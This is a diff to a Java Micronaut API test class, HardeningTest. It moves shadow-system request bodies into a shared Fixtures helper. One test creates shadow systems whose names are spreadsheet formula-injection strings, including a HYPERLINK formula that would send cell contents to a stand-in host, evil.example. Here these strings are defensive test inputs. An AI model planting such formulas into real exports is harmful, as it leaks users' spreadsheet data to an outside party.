@@ -11,9 +11,9 @@ import io.micronaut.http.MediaType;
 import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
 import io.wallbreaker.support.Api;
 import io.wallbreaker.support.ApiTestBase;
+import io.wallbreaker.support.Fixtures;
 import io.wallbreaker.support.Resp;
 import java.util.ArrayList;
-import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.BeforeAll;
@@ -45,7 +45,7 @@ class HardeningTest extends ApiTestBase {
         List<String> hostile =
                 List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd", "-2+3", "@SUM(A1:A9)");
         for (String name : hostile) {
-            Map<String, Object> body = shadowSystem(name + " " + unique("s"));
+            Map<String, Object> body = Fixtures.aShadowSystem(name + " " + unique("s"), "Heroku", dev, ops);
             Resp created = member.post("/api/shadow-systems", body);
             assertEquals(201, created.status(), created.toString());
         }
@@ -146,7 +146,7 @@ class HardeningTest extends ApiTestBase {
 
     @Test
     void shouldLetViewersReadTheHistoryOfRecordsButNotOfAccounts() {
-        Resp incident = member.post("/api/incidents", io.wallbreaker.support.Fixtures.anIncident(List.of(dev)));
+        Resp incident = member.post("/api/incidents", Fixtures.anIncident(List.of(dev)));
         assertEquals(201, incident.status(), incident.toString());
         Resp history = viewer.get("/api/audit?entityType=incident&entityId=" + incident.num("id"));
         assertEquals(200, history.status(), history.toString());
@@ -165,18 +165,5 @@ class HardeningTest extends ApiTestBase {
         assertProblem(unknown, 400);
         assertEquals(List.of("entityType"), unknown.errorFields());
         assertEquals(200, admin.get("/api/audit?entityType=session").status());
-    }
-
-    private Map<String, Object> shadowSystem(String name) {
-        Map<String, Object> body = new HashMap<>();
-        body.put("name", name);
-        body.put("provider", "Heroku");
-        body.put("ownerTeam", dev);
-        body.put("dataClassification", "INTERNAL");
-        body.put("firstLiveAt", "2025-03-01T00:00:00Z");
-        body.put("discoveredAt", "2026-02-20T00:00:00Z");
-        body.put("discoveredBy", ops);
-        body.put("discoveryMethod", "BILLING_AUDIT");
-        return body;
     }
 }
